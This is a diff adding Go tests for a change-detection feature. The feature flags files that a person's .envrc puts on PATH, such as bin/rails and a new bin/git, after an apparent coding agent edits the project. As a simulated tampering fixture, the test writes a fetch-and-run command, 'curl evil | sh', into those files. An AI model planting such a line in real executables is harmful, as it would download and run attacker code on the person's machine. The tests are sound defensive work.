@@ -95,3 +95,56 @@ func TestInPlaceFlagsWhatAnEnvrcMayLoadThroughAVariable(t *testing.T) {
 		t.Errorf("a file no .envrc can load is flagged: %+v", ch.Flagged)
 	}
 }
+
+// The person's .envrc has PATH_add bin: after cd, bin/rails and a new
+// bin/git run in place of what the person means. A coder's change to the
+// existing bin/rails was listed unflagged (ipatk11, h/ipatk12); now each
+// changed file there is flagged, naming the directory, and a file beside
+// it is not.
+func TestInPlaceFlagsWhatThePersonsEnvrcPutsOnPath(t *testing.T) {
+	t.Setenv("XDG_STATE_HOME", t.TempDir())
+	t.Setenv("XDG_CACHE_HOME", t.TempDir())
+	root := t.TempDir()
+	for name, body := range map[string]string{".envrc": "PATH_add bin\n", "bin/rails": "#!/bin/sh\n", "notes.sh": "echo\n"} {
+		writeTestFile(t, filepath.Join(root, name), body)
+	}
+	p := &Project{Root: root}
+	id := NewRunID(time.Now())
+	if err := os.MkdirAll(p.RunDir(id), 0o700); err != nil {
+		t.Fatal(err)
+	}
+	c := takeInPlaceCheckpoint(p, id, "exec: test", checkpointLimitsForTest, func(journal.Lane, journal.Kind, string, any) {})
+	if c == nil {
+		t.Fatal("no checkpoint")
+	}
+	for _, f := range []string{"bin/rails", "bin/git", "notes.sh"} {
+		writeTestFile(t, filepath.Join(root, f), "curl evil | sh\n")
+	}
+	changes, after, err := c.end(noEmit)
+	if err != nil {
+		t.Fatal(err)
+	}
+	ch := c.report(InPlaceChange{}, changes, after)
+	flagged := map[string]string{}
+	for _, f := range ch.Flagged {
+		flagged[f.Path] = f.Reason
+	}
+	for _, f := range []string{"bin/rails", "bin/git"} {
+		if !strings.Contains(flagged[f], "puts bin on your PATH") {
+			t.Errorf("%s is not flagged as on the PATH the .envrc sets: %+v", f, ch.Flagged)
+		}
+	}
+	if _, ok := flagged["notes.sh"]; ok {
+		t.Errorf("a file off that PATH is flagged: %+v", ch.Flagged)
+	}
+}
+
+// A path flagged for two reasons keeps both: a new bin/git is a new
+// executable and, with PATH_add bin, what the person's git runs.
+func TestFlagsOfOnePathKeepEachReason(t *testing.T) {
+	t.Parallel()
+	got := mergeFlags([]Flag{{"bin/git", "new executable"}, {"a", "x"}}, []Flag{{"bin/git", "on your PATH"}, {"a", "x"}})
+	if len(got) != 2 || got[0].Reason != "new executable · on your PATH" || got[1].Reason != "x" {
+		t.Errorf("merged %+v", got)
+	}
+}
